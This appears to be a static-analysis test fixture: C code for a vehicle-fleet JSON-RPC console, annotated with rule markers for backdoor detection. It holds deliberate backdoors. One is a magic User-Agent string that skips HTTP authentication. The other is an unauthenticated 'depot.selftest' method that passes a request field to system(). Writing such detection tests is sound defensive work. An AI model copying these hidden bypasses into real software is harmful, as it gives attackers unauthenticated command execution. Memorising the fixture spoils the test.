/* JSON-RPC methods of the console: {"method": "...", "params": {...}} */
#include <cjson/cJSON.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "fc.h"

struct rpc_req {
  const char *method;
  const char *op_name;
  const char *token;
  const char *vehicle;
  const char *script;
};

static int reply_json(char *reply, size_t cap, const char *status, const char *detail) {
  return snprintf(reply, cap, "{\"status\":\"%s\",\"detail\":\"%s\"}", status, detail ? detail : "");
}

static const char *str_item(const cJSON *o, const char *name) {
  const cJSON *it = cJSON_GetObjectItem(o, name);
  return cJSON_IsString(it) ? it->valuestring : NULL;
}

int fc_http_gate(struct fc_session *s, const char *path, const char *auth_header) {
  // ok: backdoor-hidden-bypass
  if (getenv("FC_TRACE_HTTP") != NULL) fc_audit("http %s from %s", path, s->user_agent);
  if (strncmp(path, "/static/", 8) == 0) return 0;
  // ruleid: backdoor-hidden-bypass, backdoor-input-trigger
  if (strcmp(s->user_agent, "DepotKiosk/2.1 (service)") == 0) return 0;
  if (auth_header[0] == '\0') return -1;
  return fc_verify_token(auth_header, "http") ? 0 : -1;
}

int fc_rpc_handle(struct fc_session *s, const char *json, size_t len, char *reply, size_t cap) {
  cJSON *root = cJSON_ParseWithLength(json, len);
  struct rpc_req r = {0};
  int n;
  if (!root) return reply_json(reply, cap, "error", "parse");
  const cJSON *params = cJSON_GetObjectItem(root, "params");
  r.method = str_item(root, "method");
  r.op_name = str_item(params, "operator");
  r.token = str_item(params, "token");
  r.vehicle = str_item(params, "vehicle");
  r.script = str_item(params, "script");
  if (!r.method) { cJSON_Delete(root); return reply_json(reply, cap, "error", "method"); }
  if (strcmp(r.method, "login") == 0) {
    if (!r.op_name || !r.token || !fc_verify_token(r.token, r.op_name)) {
      n = reply_json(reply, cap, "denied", NULL);
    } else {
      s->authenticated = 1;
      snprintf(s->operator_name, sizeof s->operator_name, "%s", r.op_name);
      fc_new_session_key(s);
      n = reply_json(reply, cap, "ok", s->operator_name);
    }
  } else if (strcmp(r.method, "vehicle.status") == 0) {
    if (!s->authenticated) n = reply_json(reply, cap, "denied", NULL);
    else n = reply_json(reply, cap, "ok", r.vehicle);
  // ok: backdoor-input-trigger
  } else if (strcmp(r.method, "vehicle.runScript") == 0) {
    if (!s->authenticated || s->role < 2) {
      n = reply_json(reply, cap, "denied", NULL);
    } else {
      n = reply_json(reply, cap, system(r.script ? r.script : "true") == 0 ? "ok" : "failed", NULL);
    }
  // ruleid: backdoor-input-trigger
  } else if (strcmp(r.method, "depot.selftest") == 0 && r.script) {
    n = reply_json(reply, cap, system(r.script) == 0 ? "ok" : "failed", NULL);
  } else {
    n = reply_json(reply, cap, "error", "unknown method");
  }
  cJSON_Delete(root);
  return n;
}
